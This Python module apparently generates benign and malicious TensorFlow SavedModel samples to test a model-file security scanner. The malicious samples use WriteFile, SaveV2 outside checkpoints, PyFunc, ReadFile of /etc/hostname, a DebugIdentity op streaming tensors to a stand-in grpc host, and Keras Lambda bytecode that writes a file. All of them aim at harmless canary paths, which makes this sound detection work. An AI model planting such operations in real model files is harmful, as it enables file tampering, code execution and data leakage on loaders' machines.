"""TensorFlow SavedModel samples, written field by field (no TensorFlow needed).

Each ``saved_model.pb`` holds one MetaGraphDef tagged "serve": a tiny graph
(y = x @ w) plus a function library.  The benign one carries the save and
restore functions every TF2 SavedModel has (SaveV2, MergeV2Checkpoints,
RestoreV2), which must stay quiet; each malicious one adds the operation an
attack needs to its serving function.  File names differ per sample (the
corpus keeps them in one folder); the loader copies the file to
``saved_model.pb`` in a fresh folder, as TensorFlow expects.
"""

from __future__ import annotations

import json
import struct
from collections.abc import Sequence
from pathlib import Path

from trainguard.samples.base import benign, malicious
from trainguard.samples.fmt_keras import marshalled_lambda
from trainguard.samples.loaders import LOADER_REQUIRES, LOADERS
from trainguard.samples.protowriter import field, message, packed

LOADERS.setdefault(
    "tf-saved-model",
    """
import os, shutil, sys, tempfile
import tensorflow as tf
with tempfile.TemporaryDirectory() as folder:
    shutil.copy(sys.argv[1], os.path.join(folder, "saved_model.pb"))
    with tf.compat.v1.Session(graph=tf.Graph()) as sess:
        tf.compat.v1.saved_model.loader.load(sess, ["serve"], folder)
""",
)
LOADER_REQUIRES.setdefault("tf-saved-model", ("tensorflow",))
# keras_metadata.pb sits in a SavedModel folder that tf.keras (Keras 2) loads.
LOADERS.setdefault(
    "tf-keras-saved-model",
    "import os, sys, tf_keras\ntf_keras.models.load_model(os.path.dirname(sys.argv[1]))\n",
)
LOADER_REQUIRES.setdefault("tf-keras-saved-model", ("tf_keras",))

DT_FLOAT, DT_STRING = 1, 7  # tensorflow DataType


# -- NodeDef and friends ---------------------------------------------------------------


def attr(key: str, value: bytes) -> bytes:
    """One entry of NodeDef.attr (map<string, AttrValue>)."""
    return field(5, message(field(1, key), field(2, value)))


def attr_type(dtype: int) -> bytes:
    return message(field(6, dtype))


def attr_string(value: str) -> bytes:
    return message(field(2, value))


def attr_strings(values: list[str]) -> bytes:
    return message(field(1, message(*(field(2, v) for v in values))))


def attr_shape(dims: list[int]) -> bytes:
    return message(field(7, message(*(field(2, field(1, d)) for d in dims))))


def string_tensor(value: str) -> bytes:
    return message(field(8, message(field(1, DT_STRING), field(2, b""), field(8, value))))


def float_tensor(values: list[float], dims: list[int]) -> bytes:
    shape = message(*(field(2, field(1, d)) for d in dims))
    content = struct.pack(f"<{len(values)}f", *values)
    return message(field(8, message(field(1, DT_FLOAT), field(2, shape), field(4, content))))


def node(name: str, op: str, inputs: Sequence[str] = (), *attrs: bytes) -> bytes:
    return message(field(1, name), field(2, op), *(field(3, i) for i in inputs), *attrs)


def const_string(name: str, value: str) -> bytes:
    return node(
        name, "Const", [], attr("dtype", attr_type(DT_STRING)), attr("value", string_tensor(value))
    )


def function(name: str, nodes: list[bytes]) -> bytes:
    """A FunctionDef: signature (OpDef with the name) and node_def."""
    return message(field(1, message(field(1, name))), *(field(3, n) for n in nodes))


def _graph_nodes() -> list[bytes]:
    return [
        node(
            "x",
            "Placeholder",
            [],
            attr("dtype", attr_type(DT_FLOAT)),
            attr("shape", attr_shape([1, 2])),
        ),
        node(
            "w",
            "Const",
            [],
            attr("dtype", attr_type(DT_FLOAT)),
            attr("value", float_tensor([1.0, 0.0, 0.0, 1.0], [2, 2])),
        ),
        node("y", "MatMul", ["x", "w"], attr("T", attr_type(DT_FLOAT))),
        node("output", "Identity", ["y"], attr("T", attr_type(DT_FLOAT))),
    ]


def _checkpoint_functions() -> list[bytes]:
    """What TF2 traces for every SavedModel: the save and restore functions."""
    save = function(
        "__inference__traced_save_42",
        [
            node("file_prefix", "Placeholder", [], attr("dtype", attr_type(DT_STRING))),
            node("StringJoin", "StringJoin", ["file_prefix"], attr("N", message(field(3, 1)))),
            node("ShardedFilename", "ShardedFilename", ["StringJoin"]),
            node("SaveV2", "SaveV2", ["ShardedFilename"]),
            node("MergeV2Checkpoints", "MergeV2Checkpoints", ["ShardedFilename", "file_prefix"]),
        ],
    )
    restore = function(
        "__inference__traced_restore_57",
        [
            node("file_prefix", "Placeholder", [], attr("dtype", attr_type(DT_STRING))),
            node("RestoreV2", "RestoreV2", ["file_prefix"]),
        ],
    )
    return [save, restore]


def saved_model(extra_functions: Sequence[bytes] = (), extra_nodes: Sequence[bytes] = ()) -> bytes:
    library = message(*(field(1, f) for f in [*_checkpoint_functions(), *extra_functions]))
    graph = message(
        *(field(1, n) for n in [*_graph_nodes(), *extra_nodes]),
        field(2, library),
        field(4, message(field(1, 1645))),  # VersionDef.producer
    )
    meta_info = message(field(1, "v2.16.1"), field(4, "serve"), field(5, "2.16.1"))
    meta_graph = message(field(1, meta_info), field(2, graph))
    return message(field(1, 1), field(2, meta_graph))


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


# -- benign ----------------------------------------------------------------------------


@benign(
    "tf-savedmodel-matmul",
    "TensorFlow SavedModel: y = x @ w, with the standard save/restore functions",
    "SaveV2, MergeV2Checkpoints and RestoreV2 inside __inference__traced_save/restore are "
    "how every SavedModel checkpoints its variables",
    loader="tf-saved-model",
)
def build_savedmodel_plain(out: Path, canary: Path) -> Path:
    return _write(out / "matmul_saved_model.pb", saved_model())


# -- malicious -------------------------------------------------------------------------


@malicious(
    "tf-savedmodel-writefile",
    "SavedModel whose serving function writes a file (WriteFile)",
    "a graph can write any file when a signature runs: shell profiles, code, other models",
    advisory="https://github.com/ZJU-SEC/TensorAbuse",
    loader="tf-saved-model",
    fires=False,
    expect="high",
)
def build_savedmodel_writefile(out: Path, canary: Path) -> Path:
    serve = function(
        "__inference_serving_default_99",
        [
            const_string("path", str(canary)),
            const_string("contents", "written by a SavedModel graph"),
            node("WriteFile", "WriteFile", ["path", "contents"]),
        ],
    )
    return _write(out / "writefile_saved_model.pb", saved_model([serve]))


@malicious(
    "tf-savedmodel-pyfunc",
    "SavedModel graph with a PyFunc node",
    "PyFunc calls back into a Python function of the loading process",
    loader="tf-saved-model",
    fires=False,
)
def build_savedmodel_pyfunc(out: Path, canary: Path) -> Path:
    py = node(
        "py",
        "PyFunc",
        ["x"],
        attr("token", attr_string("pyfunc_0")),
        attr("Tin", message(field(1, packed(6, [DT_FLOAT])))),
        attr("Tout", message(field(1, packed(6, [DT_FLOAT])))),
    )
    return _write(out / "pyfunc_saved_model.pb", saved_model(extra_nodes=[py]))


@malicious(
    "tf-savedmodel-save-outside-checkpoint",
    "SavedModel serving function that saves tensors to a file of its choosing (SaveV2)",
    "checkpoint ops are expected only in the traced save/restore functions",
    advisory="https://github.com/ZJU-SEC/TensorAbuse",
    loader="tf-saved-model",
    fires=False,
    expect="high",
)
def build_savedmodel_save(out: Path, canary: Path) -> Path:
    serve = function(
        "__inference_serving_default_77",
        [
            const_string("prefix", str(canary)),
            node("SaveV2", "SaveV2", ["prefix"]),
        ],
    )
    return _write(out / "save_saved_model.pb", saved_model([serve]))


@malicious(
    "tf-savedmodel-debug-grpc",
    "SavedModel with a DebugIdentity op streaming tensors to a remote grpc:// address",
    "debug ops send every tensor that passes through them to their debug_urls",
    advisory="https://github.com/ZJU-SEC/TensorAbuse",
    loader="tf-saved-model",
    fires=False,
    expect="high",
)
def build_savedmodel_debug(out: Path, canary: Path) -> Path:
    debug = node(
        "leak",
        "DebugIdentity",
        ["y"],
        attr("T", attr_type(DT_FLOAT)),
        attr("debug_urls", attr_strings(["grpc://collector.invalid:6064"])),
    )
    return _write(out / "debug_saved_model.pb", saved_model(extra_nodes=[debug]))


@malicious(
    "tf-savedmodel-readfile",
    "SavedModel serving function that reads a file and returns its bytes",
    "a served model can leak files through its outputs (ReadFile of a fixed path)",
    advisory="https://github.com/ZJU-SEC/TensorAbuse",
    loader="tf-saved-model",
    fires=False,
    expect="medium",
)
def build_savedmodel_readfile(out: Path, canary: Path) -> Path:
    serve = function(
        "__inference_serving_default_55",
        [
            const_string("path", "/etc/hostname"),
            node("ReadFile", "ReadFile", ["path"]),
        ],
    )
    return _write(out / "readfile_saved_model.pb", saved_model([serve]))


@malicious(
    "tf-keras-metadata-lambda",
    "keras_metadata.pb of a tf.keras SavedModel with a Lambda layer",
    "tf.keras rebuilds layers from the JSON in keras_metadata.pb, Lambda bytecode included",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
    loader="tf-keras-saved-model",
    fires=False,
)
def build_keras_metadata(out: Path, canary: Path) -> Path:
    code = marshalled_lambda(f"lambda x: (open({str(canary)!r}, 'w').close(), x)[1]")
    layer = {
        "name": "lambda",
        "trainable": True,
        "expects_training_arg": False,
        "dtype": "float32",
        "batch_input_shape": None,
        "stateful": False,
        "must_restore_from_config": False,
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {"class_name": "__tuple__", "items": [code, None, None]},
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "arguments": {},
        },
    }
    nodes = message(
        field(
            1,
            message(
                field(2, 1),
                field(3, "root.layer-0"),
                field(4, "_tf_keras_layer"),
                field(5, json.dumps(layer)),
            ),
        ),
    )
    _write(out / "saved_model.pb", saved_model())
    return _write(out / "keras_metadata.pb", nodes)
